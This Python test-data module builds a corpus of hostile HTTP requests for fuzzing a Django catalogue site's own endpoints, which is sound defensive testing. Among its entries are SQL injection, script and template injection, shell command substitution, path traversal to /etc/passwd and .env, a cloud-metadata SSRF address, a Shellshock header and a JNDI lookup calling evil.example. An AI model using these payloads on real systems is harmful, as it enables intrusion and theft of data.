"""What is asked by those who mean no good: names and values of parameters, paths, header fields, bodies.
`test_hostile` sends it.

Everything is as it goes over the wire, percent-encoded or in bytes. What Django's client cannot send is in
`test_hostile_server`.
"""

import json
from collections.abc import Iterator
from typing import NamedTuple

ANYBODY, EDITOR, ADMINISTRATOR = "anonymous", "editor", "administrator"


class Ask(NamedTuple):
    group: str  # verdicts are kept by it
    name: str
    path: str
    query: str = ""
    method: str = "GET"
    body: bytes = b""
    kind: str = "application/octet-stream"
    headers: dict[str, str] = {}
    who: str = ANYBODY


MEGABYTE = 1024 * 1024

VALUES = {
    "empty": "",
    "blank": "+%20%09",
    "nul": "%00",
    "nul-inside": "a%00b",
    "controls": "%01%1f%7f%85",
    "line-break": "a%0d%0aSet-Cookie:%20x=1",
    "line-separator": "a%E2%80%A8b",
    "lone-surrogate": "%ED%A0%80",
    "pair-of-surrogates": "%ED%A0%BD%ED%B8%80",
    "overlong-slash": "%C0%AF",
    "overlong-nul": "%C0%80",
    "overlong-three": "%E0%80%AF",
    "five-bytes": "%F8%88%80%80%80",
    "above-unicode": "%F4%90%80%80",
    "cut-off": "%E5%8C",
    "latin-1": "caf%E9",
    "gbk": "%B1%B1%BE%A9",
    "utf-16": "%FE%FF%53%17",
    "bom": "%EF%BB%BFa",
    "bidi": "%E2%80%AEgnp.a%E2%81%A6b%E2%81%A9",
    "zero-width": "a%E2%80%8B%E2%80%8D",
    "no-character": "%EF%BF%BF%EF%B7%90",
    "private-use": "%EE%80%80",
    "astral": "%F0%A0%9C%8E",
    "marks": "a" + "%CC%81" * 2000,
    "full-width-digit": "%EF%BC%91",
    "arabic-digit": "%D9%A1",
    "superscript": "%C2%B2",
    "ligature": "%EF%B7%BA" * 30,
    "capital-that-grows": "%C4%B0%C3%9F" * 100,
    "percent": "%",
    "percent-g": "%GG",
    "percent-u": "%u5317",
    "twice-encoded": "%2500",
    "sql": "1'%20OR%20'1'='1",
    "sql-comment": "a')%3BDROP%20TABLE%20catalogue_organisation--",
    "sql-sleep": "1%20AND%20pg_sleep(5)",
    "like": "%25_%25%5C",
    "glob": "*%3F[a-",
    "fts": '%22a%22%20NEAR(b%20c)%20OR%20-d%20*%20^e:f"',
    "tsquery": "a%20%26%20!b%20%7C%20c:*",
    "script": "%3Cscript%3Ealert(1)%3C/script%3E",
    "quotes": "'%22%60%3E",
    "template": "%7B%7B7*7%7D%7D%7B%25%20debug%20%25%7D",
    "format": "%25s%25n%7B0.__class__%7D",
    "shell": "%24(id)%60id%60%7Cid",
    "traversal": "..%2F..%2F..%2Fetc%2Fpasswd",
    "address": "http:%2F%2F169.254.169.254%2Flatest%2F",
    "minus": "-1",
    "zero": "0",
    "past-int32": "2147483648",
    "past-int64": "9223372036854775808",
    "400-digits": "9" * 400,
    "6000-digits": "9" * 6000,
    "float": "1e309",
    "nan": "NaN",
    "underscore": "1_0",
    "hexadecimal": "0x1F",
    "json": "%7B%22a%22:[1]%7D",
    "semicolon": "a;b=1",
    "equals": "a=b=c",
    "date-that-is-none": "2023-02-30",
    "year-0": "0000",
    "year-99999": "99999-01",
    "backtracking": "(a%2B)%2B$" + "a" * 60 + "!",
    "spaces": "+" * 5000,
    "words": "a+" * 3000,
    "8000-letters": "x" * 8000,
    "3000-han": "%E6%B7%B1" * 3000,
}

# Where a value may stand: who asks, path, parameter. The other conditions are plain.
PLACES = [
    *((ANYBODY, "/organisations/", name) for name in ("q", "page", "sector", "founded_from")),
    (ANYBODY, "/policies/export.csv", "issued_to"),
    (ANYBODY, "/search/", "q"),
    (ANYBODY, "/en/compare/", "organisation"),
    (ANYBODY, "/landscape/landscape.svg", "layer"),
    (ANYBODY, "/changes/", "date_from"),
    *((ANYBODY, "/api/v1/organisations/", name) for name in ("q", "fields", "identifier", "updated_from")),
    (ANYBODY, "/api/v1/search/", "type"),
    (ANYBODY, "/api/v1/suggest/", "q"),
    (ANYBODY, "/api/v1/match/", "name"),
    (ANYBODY, "/api/v1/changes/", "cursor"),
    (EDITOR, "/admin/catalogue/organisation/", "q"),
    (EDITOR, "/admin/catalogue/organisation/", "status__exact"),
    (
        EDITOR,
        "/admin/autocomplete/?app_label=catalogue&model_name=organisation&field_name=place",
        "term",
    ),
    (ADMINISTRATOR, "/admin/catalogue/revision/", "q"),
    (ADMINISTRATOR, "/admin/catalogue/user/", "role"),
]

QUERIES = {
    "nul-name": "%00=1",
    "nul-in-name": "q%00=1",
    "no-name": "=1",
    "no-value": "q",
    "ampersands": "&" * 3000,
    "brackets": "q[]=1",
    "operator": "q[$ne]=1",
    "dots": "q.a.b=1",
    "lone-surrogate-name": "%ED%A0%80=1",
    "overlong-name": "%C0%AF=1",
    "bidi-name": "%E2%80%AEq=1",
    "gbk-name": "%B1%B1=1",
    "line-break-name": "a%0d%0ab=1",
    "prototype": "__proto__=1&constructor=1",
    "long-name": "x" * 5000 + "=1",
    "lookup": "place__slug__regex=.*",
    "password-lookup": "password__startswith=a&user__password__startswith=a",
    "to-field": "_to_field=password&_popup=1",
    "facets-of-the-admin": "_facets=True&e=1&o=-1.99.x&all=&p=9999",
    "format": "format=api",
    "twice": "q=a&q=b&page=1&page=2",
    "60-values": "&".join(f"sector=x{n}" for n in range(60)),
    "same-60-times": "&".join(["place=haidian"] * 60),
    "10000-names": "&".join(f"a{n}=1" for n in range(10_000)),
    "10000-of-one": "&".join(["q=a"] * 10_000),
    "30000-names": "&".join(f"a{n}=1" for n in range(30_000)),
    "1-mb-value": "q=" + "x" * MEGABYTE,
    "1-mb-escaped": "q=" + "%E5%8C%97" * (MEGABYTE // 9),
    "1-mb-of-nul": "q=" + "%00" * (MEGABYTE // 3),
    "1-mb-name": "x" * MEGABYTE + "=1",
}
ASKED = [
    *(
        (ANYBODY, path)
        for path in (
            *("/", "/en/organisations/", "/timeline/", "/organisations/organisation/", "/suggest/"),
            *("/organisations/export.jsonl", "/changes/feed.atom", "/sitemap.xml", "/healthz"),
            *("/api/v1/organisations/", "/api/v1/changes/", "/static/nothing.css"),
        )
    ),
    (EDITOR, "/admin/catalogue/organisation/"),
    (ADMINISTRATOR, "/admin/catalogue/user/"),
]

PATHS = {
    "dots": "/../../etc/passwd",
    "dots-below": "/organisations/../admin/",
    "encoded-dots": "/%2e%2e/%2e%2e/etc/passwd",
    "twice-encoded-dots": "/%252e%252e/etc/passwd",
    "overlong-dots": "/%C0%AE%C0%AE/etc/passwd",
    "backslashes": "/..%5c..%5cwindows%5cwin.ini",
    "static-dots": "/static/../config/settings.py",
    "static-encoded": "/static/%2e%2e/%2e%2e/config/settings.py",
    "static-absolute": "/static//etc/passwd",
    "static-nul": "/static/site.css%00.txt",
    "static-folder": "/static/",
    "static-long": "/static/" + "a" * 5000,
    "slashes": "//organisations//",
    "other-host": "//evil.example/organisations",
    "other-host-without-slash": "//evil.example/%2e%2e",
    "backslash-host": "/\\evil.example/",
    "at": "/@evil.example",
    "semicolon": "/organisations/;jsessionid=1",
    "semicolon-before": "/;/admin/catalogue/user/",
    "dot-slash": "/./organisations/",
    "capitals": "/ORGANISATIONS/",
    "full-width": "/%EF%BC%8Forganisations/",
    "nul": "/%00",
    "nul-behind": "/organisations/%00",
    "nul-slug": "/organisations/a%00/",
    "line-break": "/a%0d%0aSet-Cookie:%20x=1/",
    "lone-surrogate": "/organisations/%ED%A0%80/",
    "overlong": "/organisations/%C0%AF/",
    "not-utf-8": "/%FF%FE/",
    "bidi": "/organisations/%E2%80%AEabc/",
    "script": "/%3Cscript%3Ealert(1)%3C/script%3E/",
    "question-mark": "/organisations/%3Fq=a/",
    "hash": "/organisations/%23/",
    "percent": "/organisations/%25/",
    "han": "/organisations/%E5%8C%97%E4%BA%AC/",
    "long": "/" + "a" * 100_000 + "/",
    "long-slug": "/organisations/" + "a" * 161 + "/",
    "deep": "/" + "a/" * 5000,
    "many-slashes": "/" * 10_000,
    "languages": "/en/en/organisations/",
    "language-like": "/zh-hans/organisations/",
    "git": "/.git/config",
    "environment": "/.env",
    "php": "/index.php",
    "sitemap-huge": "/sitemap-" + "9" * 300 + ".xml",
    "sitemap-zero": "/sitemap-0.xml",
    "sitemap-digits": "/sitemap-%D9%A1.xml",
    "uuid": "/api/v1/organisations/00000000-0000-0000-0000-000000000000/",
    "api-slug": "/api/v1/organisations/a%2Fb/",
    "api-vocabulary": "/api/v1/vocabularies/%00/%00/",
    "api-deep": "/api/v1/organisations/organisation/links/links/",
    "preview": "/preview/a:b:c/",
    "preview-nul": "/preview/%00/",
    "preview-long": "/preview/" + "a" * 5000 + "/",
    "receipt": "/suggest/%E2%80%AE/",
    "password": "/admin/password/MQ/set-password/",
    "password-nul": "/admin/password/AA/a-b/",
    "password-huge": "/admin/password/" + "OTk5" * 100 + "/a-b/",
    "admin-id": "/admin/catalogue/organisation/%00/change/",
    "admin-id-quoted": "/admin/catalogue/organisation/_00_2F_3F/change/",
    "admin-number": "/admin/catalogue/user/99999999999999999999/change/",
    "admin-digits": "/admin/catalogue/user/%C2%B2/change/",
    "admin-surrogate": "/admin/catalogue/user/%ED%A0%80/history/",
    "admin-act": "/admin/catalogue/organisation/00000000-0000-0000-0000-000000000000/act/%00/",
    "admin-app": "/admin/nothing%00/",
    "admin-view": "/admin/r/1/%00/",
    "admin-view-huge": "/admin/r/" + "9" * 30 + "/1/",
}

HEADERS = {
    "no-host": {"host": ""},
    "other-host": {"host": "evil.example"},
    "host-with-port": {"host": "testserver:99999"},
    "host-at": {"host": "testserver@evil.example"},
    "host-nul": {"host": "testserver\x00"},
    "host-path": {"host": "testserver/evil"},
    "host-dots": {"host": "testserver.."},
    "host-dot": {"host": "testserver."},
    "host-capitals": {"host": "TestServer"},
    "host-ipv6": {"host": "[::1"},
    "host-list": {"host": "testserver, evil.example"},
    "host-latin-1": {"host": "t\xe9st"},
    "host-long": {"host": "a" * 5000},
    "forwarded-host": {"x-forwarded-host": "evil.example"},
    "forwarded-scheme": {"x-forwarded-proto": "gopher", "forwarded": "for=x;host=evil.example"},
    "forwarded-for": {"x-forwarded-for": "a" * 3000 + ", ::ffff:0:0%eth0, 999.1.1.1"},
    "original-url": {"x-original-url": "/admin/", "x-rewrite-url": "/admin/"},
    "method-override": {"x-http-method-override": "DELETE", "x-method-override": "PUT"},
    "languages": {"accept-language": ",".join(f"x{n}-{'a' * 8};q=0.{n}" for n in range(20_000))},
    "language-dashes": {"accept-language": "a-" * 5000},
    "language-garbage": {"accept-language": "\xff\xfe;q=zz,,,;;;"},
    "encodings": {"accept-encoding": ",".join(f"gzip;q=0.{n}" for n in range(5000))},
    "encoding-garbage": {"accept-encoding": "gzip;q=\xff, *;q=-1"},
    "types": {"accept": ",".join(f"a{n}/b{n};q=0.1" for n in range(5000))},
    "type-garbage": {"accept": "///;;;=,\x01"},
    "type-html": {"accept": "text/html;q=x"},
    "range": {"range": "bytes=0-0"},
    "ranges": {"range": "bytes=" + ",".join(f"{n}-" for n in range(5000))},
    "range-garbage": {"range": "bytes=-9999999999999999999999, x"},
    "if-none-match": {"if-none-match": '"' * 5001},
    "if-none-match-list": {"if-none-match": ",".join(f'W/"{n}"' for n in range(10_000))},
    "if-match": {"if-match": "\xff"},
    "if-modified-since": {"if-modified-since": "Mon, 99 Xyz 99999 99:99:99 GMT"},
    "if-modified-since-digits": {"if-modified-since": "Mon, 01 Jan 0001 00:00:00 GMT"},
    "if-modified-since-long": {"if-modified-since": "9" * 5000},
    "if-unmodified-since": {"if-unmodified-since": "\x00"},
    "cookies": {"cookie": "; ".join(f"a{n}={n}" for n in range(3000))},
    "cookie-garbage": {"cookie": 'sessionid="\\777\\000; =; ;;; csrftoken=\xff'},
    "cookie-session": {"cookie": "sessionid=' OR 1=1 --"},
    "cookie-session-nul": {"cookie": "sessionid=a\x00b"},
    "cookie-session-surrogate": {"cookie": "sessionid=\xed\xa0\x80"},
    "cookie-session-long": {"cookie": "sessionid=" + "a" * 8000},
    "cookie-session-twice": {"cookie": "sessionid=a; sessionid=b"},
    "cookie-csrf": {"cookie": "csrftoken=" + "\x7f" * 64},
    "cookie-prefix": {"cookie": "__Host-sessionid=1; $Version=1"},
    "authorization": {"authorization": "Basic \xff\xff"},
    "authorization-key": {"authorization": "Bearer cat_" + "\x00" * 40},
    "authorization-long": {"authorization": "Bearer cat_" + "a" * 8000},
    "authorization-empty": {"authorization": "Bearer"},
    "request-id": {"x-request-id": "a\r\nb"},
    "content-length": {"content-length": "-1"},
    "content-length-word": {"content-length": "x"},
    "content-length-huge": {"content-length": "9" * 30},
    "transfer-encoding": {"transfer-encoding": "chunked, identity"},
    "origin": {"origin": "null"},
    "origin-garbage": {"origin": "https://[::1"},
    "referer": {"referer": "http://[" + "a" * 3000},
    "htmx": {"hx-request": "true", "hx-current-url": "http://["},
    "agent": {"user-agent": "() { :;}; " + "\xff" * 5000},
    "shock": {"x-api-version": "${jndi:ldap://evil.example/a}"},
    "expect": {"expect": "200-maybe"},
    "upgrade": {"connection": "Upgrade", "upgrade": "websocket"},
}
ADDRESSED = [
    *((ANYBODY, path) for path in ("/", "/en/organisations/", "/api/v1/organisations/", "/admin/")),
    (EDITOR, "/admin/catalogue/organisation/"),
]

METHODS = (
    "HEAD",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "get",
    "A" * 300,
)

DEEP = 100_000
JSON_BODIES = {
    "nothing": b"",
    "nul": b"\x00",
    "no-json": b"{",
    "cut-off": b'{"queries": ["a"',
    "deep-list": b"[" * DEEP,
    "deep-and-closed": b"[" * DEEP + b"]" * DEEP,
    "deep-object": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "deep-inside": b'{"queries": ' + b"[" * 5000 + b"]" * 5000 + b"}",
    "list": b'["a"]',
    "word": b'"a"',
    "number": b"1",
    "null": b"null",
    "nan": b'{"queries": NaN}',
    "infinity": b'{"queries": [Infinity, -Infinity]}',
    "5000-digits": b'{"queries": [' + b"9" * 5000 + b"]}",
    "exponent": b'{"queries": [1e999999999]}',
    "null-queries": b'{"queries": null}',
    "word-queries": b'{"queries": "a"}',
    "object-queries": b'{"queries": {"a": 1}}',
    "mixed": b'{"queries": ["a", 1, null, [], {}, true]}',
    "empty-queries": b'{"queries": []}',
    "101-queries": json.dumps({"queries": ["a"] * 101}).encode(),
    "100-long-queries": json.dumps({"queries": ["深" * 2000] * 100}).encode(),
    "twice": b'{"queries": ["a"], "queries": ["b"]}',
    "unknown": b'{"queries": ["a"], "__proto__": {"x": 1}}',
    "escaped-nul": b'{"queries": ["a\\u0000b"]}',
    "escaped-surrogate": b'{"queries": ["\\ud800"]}',
    "surrogates-turned": b'{"queries": ["\\udc00\\ud800"]}',
    "not-utf-8": b'{"queries": ["\xff\xfe"]}',
    "overlong": b'{"queries": ["\xc0\xaf"]}',
    "surrogate-bytes": b'{"queries": ["\xed\xa0\x80"]}',
    "bom": b'\xef\xbb\xbf{"queries": ["a"]}',
    "utf-16": '{"queries": ["a"]}'.encode("utf-16"),
    "comment": b'{"queries": ["a"] /* x */}',
    "long-key": b'{"' + b"x" * MEGABYTE + b'": 1}',
    "many-keys": json.dumps({f"k{n}": n for n in range(100_000)}).encode(),
    "6-mb": b'{"queries": ["' + b"x" * (6 * MEGABYTE) + b'"]}',
}
JSON_KINDS = {
    "no-type": "",
    "text": "text/plain",
    "xml": "application/xml",
    "yaml": "application/x-yaml",
    "charset": "application/json; charset=utf-16",
    "charset-garbage": "application/json; charset=\xff",
    "charset-that-executes": "application/json; charset=rot13",
    "json-patch": "application/json-patch+json",
    "parameters": "application/json" + "; a=b" * 2000,
    "form": "application/x-www-form-urlencoded",
    "multipart": "multipart/form-data",
    "multipart-no-boundary": "multipart/form-data; boundary=",
    "garbage": "\x00/\x00;;;",
}

MULTIPART = "multipart/form-data; boundary=b"
FIELD = b'--b\r\nContent-Disposition: form-data; name="a"'
FILE = b'--b\r\nContent-Disposition: form-data; name="file"; filename='
END = b"\r\n--b--\r\n"
PART = b'--b\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
FORMS = {
    "nothing": (MULTIPART, b""),
    "no-boundary": ("multipart/form-data", PART % (b"a", b"1")),
    "empty-boundary": ('multipart/form-data; boundary=""', PART % (b"a", b"1")),
    "long-boundary": ("multipart/form-data; boundary=" + "b" * 5000, PART % (b"a", b"1")),
    "boundary-not-ascii": ("multipart/form-data; boundary=\xff", PART % (b"a", b"1")),
    "other-boundary": ("multipart/form-data; boundary=x", PART % (b"a", b"1") + b"--b--"),
    "not-ended": (MULTIPART, PART % (b"a", b"1")),
    "cut-in-header": (MULTIPART, b"--b\r\nContent-Disp"),
    "no-disposition": (MULTIPART, b"--b\r\n\r\nx\r\n--b--\r\n"),
    "no-name": (
        MULTIPART,
        b"--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--\r\n",
    ),
    "nul-name": (MULTIPART, PART % (b"a\x00", b"\x00") + b"--b--\r\n"),
    "not-utf-8": (MULTIPART, PART % (b"\xff", b"\xff\xed\xa0\x80") + b"--b--\r\n"),
    "charset": (
        MULTIPART,
        FIELD + b"\r\nContent-Type: text/plain; charset=nonsense\r\n\r\nx" + END,
    ),
    "name-in-a-charset": (
        MULTIPART,
        b"--b\r\nContent-Disposition: form-data; name*=nonsense''a\r\n\r\nx\r\n--b--\r\n",
    ),
    "base64-that-is-none": (
        MULTIPART,
        FIELD + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n\xff=" + END,
    ),
    "file-of-nothing": (
        MULTIPART,
        FILE + b'""\r\n\r\n' + END,
    ),
    "file-with-a-path": (
        MULTIPART,
        FILE + b'"../../x\x00.csv"\r\n\r\na' + END,
    ),
    "file-of-lies": (
        MULTIPART,
        FILE + b'"a.xlsx"\r\nContent-Type: x/\xff\r\n\r\nPK\x03\x04' + b"\xff" * 500 + END,
    ),
    "20-files": (
        MULTIPART,
        b"".join(
            b'--b\r\nContent-Disposition: form-data; name="f%d"; filename="f"\r\n\r\nx\r\n' % n
            for n in range(20)
        )
        + b"--b--\r\n",
    ),
    "long-header": (
        MULTIPART,
        b"--b\r\nX: " + b"a" * 200_000 + b"\r\n\r\nx\r\n--b--\r\n",
    ),
    "5000-parts": (MULTIPART, (PART % (b"a", b"1")) * 5000 + b"--b--\r\n"),
    "25000-parts": (MULTIPART, (PART % (b"a", b"1")) * 25_000 + b"--b--\r\n"),
    "boundaries-alone": (MULTIPART, b"--b\r\n" * 20_000),
    "6-mb-field": (MULTIPART, PART % (b"a", b"x" * (6 * MEGABYTE)) + b"--b--\r\n"),
    "nested": (
        MULTIPART,
        FIELD + b"\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n\r\nx\r\n--c--" + END,
    ),
    "url-nul": ("application/x-www-form-urlencoded", b"a=%00&%00=a"),
    "url-not-utf-8": ("application/x-www-form-urlencoded", b"a=%FF&b=%ED%A0%80&c=%C0%AF"),
    "url-raw-bytes": ("application/x-www-form-urlencoded", b"a=\xff\xfe&\xed\xa0\x80=1"),
    "url-charset": ("application/x-www-form-urlencoded; charset=utf-7", b"a=+ADw-script+AD4-"),
    "url-charset-garbage": ("application/x-www-form-urlencoded; charset=nonsense", b"a=1"),
    "url-30000-names": (
        "application/x-www-form-urlencoded",
        "&".join(f"a{n}=1" for n in range(30_000)).encode(),
    ),
    "url-6-mb": ("application/x-www-form-urlencoded", b"a=" + b"x" * (6 * MEGABYTE)),
    "url-semicolons": ("application/x-www-form-urlencoded", b"a=1;" * 10_000),
    "json": ("application/json", b'{"username": {"$gt": ""}}'),
    "no-type": ("", b"a=1"),
}
# Forms whose fields have these names get each of the values above in each field, too.
FIELDS = {
    "/suggest/": ("type", "name", "name_en", "website", "proposed", "source_url", "sender_email", "token"),
    "/match/": ("names", "type", "format"),
    "/organisations/organisation/suggest/": ("statement", "proposed", "source", "sender_name", "token"),
}
SENT = [
    *(
        (ANYBODY, path)
        for path in ("/suggest/", "/match/", "/admin/login/", "/api/v1/match/", "/organisations/")
    ),
    *(
        (EDITOR, path)
        for path in (
            *("/admin/catalogue/organisation/add/", "/admin/catalogue/organisation/", "/admin/paste/"),
            *("/admin/catalogue/import/add/", "/admin/notices/"),
        )
    ),
    (ADMINISTRATOR, "/admin/catalogue/user/add/"),
]


def corpus() -> Iterator[Ask]:
    """Every request, always in the same order; the names within a group are different."""
    for who, path, parameter in PLACES:
        for name, value in VALUES.items():
            address, _mark, more = path.partition("?")
            query = f"{more}&{parameter}={value}" if more else f"{parameter}={value}"
            yield Ask(f"{who} {address} {parameter}=", name, address, query, who=who)
    for who, path in ASKED:
        for name, query in QUERIES.items():
            yield Ask(f"{who} {path} ?", name, path, query, who=who)
    for who in (ANYBODY, ADMINISTRATOR):
        for name, path in PATHS.items():
            yield Ask(f"{who} paths", name, path, who=who)
    for who, path in ADDRESSED:
        for name, headers in HEADERS.items():
            yield Ask(f"{who} {path} headers", name, path, headers=headers, who=who)
        for method in METHODS:
            yield Ask(f"{who} {path} methods", method[:12], path, method=method, who=who)
    for name, body in JSON_BODIES.items():
        yield Ask(
            "anonymous /api/v1/match/ JSON", name, "/api/v1/match/", "", "POST", body, "application/json"
        )
    for name, kind in JSON_KINDS.items():
        yield Ask(
            "anonymous /api/v1/match/ types", name, "/api/v1/match/", "", "POST", b'{"queries": ["a"]}', kind
        )
    for who, path in SENT:
        for name, (kind, body) in FORMS.items():
            yield Ask(f"{who} {path} forms", name, path, "", "POST", body, kind, who=who)
    for path, fields in FIELDS.items():
        for name, value in VALUES.items():
            body = "&".join(f"{field}={value}" for field in fields).encode()
            yield Ask(
                f"anonymous {path} fields", name, path, "", "POST", body, "application/x-www-form-urlencoded"
            )
